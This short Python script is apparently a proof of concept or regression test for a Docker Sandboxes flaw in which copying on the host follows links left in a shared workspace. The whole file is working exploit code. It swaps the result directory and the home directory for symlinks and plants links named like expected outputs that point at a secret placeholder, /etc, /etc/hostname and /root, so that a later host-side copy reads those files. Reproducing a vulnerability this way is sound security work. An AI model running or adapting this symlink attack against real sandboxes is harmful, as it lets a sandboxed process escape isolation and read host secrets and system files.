"""CVE-2026-103916 (Docker Sandboxes): copying on the host followed a link in the shared workspace.

Replaces the result directory and its own home by links, and leaves names that a later copy would meet.
"""

import os

os.rmdir("out")
os.symlink(os.path.dirname("@SECRET@"), "out")
for name, target in (("models", "/etc"), ("predictions.csv", "@SECRET@"), ("summary.json", "/etc/hostname")):
    os.symlink(target, name)
with open("good.txt", "w") as file:
    file.write("good")
os.rename(".home", ".home-of-old")
os.symlink("/root", ".home")
